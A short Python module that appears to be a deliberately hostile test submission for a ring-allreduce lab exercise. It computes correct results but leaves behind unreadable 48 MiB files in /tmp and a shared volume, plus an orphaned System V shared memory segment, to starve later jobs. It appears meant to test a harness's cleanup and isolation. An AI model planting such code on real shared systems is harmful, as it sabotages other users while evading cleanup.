"""Hostile, on hosts, toward the next submission of her share: a correct ring that leaves behind
what its user's own sweep cannot take away. Rank 0 fills a folder of its own in /tmp (memory,
charged to the share's group) and one on the lab's shared volume, and makes both unreadable (mode
000: the user's `find` cannot go in); it makes a System V shared memory segment and fills it
(charged too; no file names it, and it outlives every process). What stays would be the next
submission's to meet: a share full of memory, a volume filling up."""
import ctypes
import os

import torch.distributed as dist

from lab.suite.exercises.ring_allreduce import allreduce, ring_allreduce  # noqa: F401

HOARD = 48 << 20
IPC_CREAT, IPC_PRIVATE = 0o1000, 0


def _hoard(folder):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "hoard"), "wb") as f:
        f.write(b"\xa5" * HOARD)
    os.chmod(folder, 0)


def _segment():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(IPC_PRIVATE, HOARD, IPC_CREAT | 0o600)
    address = libc.shmat(segment, None, 0)
    ctypes.memset(address, 0xA5, HOARD)
    libc.shmdt(ctypes.c_void_p(address))


if dist.get_rank() == 0:
    _hoard(f"/tmp/nina-{os.getpid()}")
    if os.access("/shared", os.W_OK):
        _hoard(f"/shared/nina-{os.getpid()}")
    _segment()
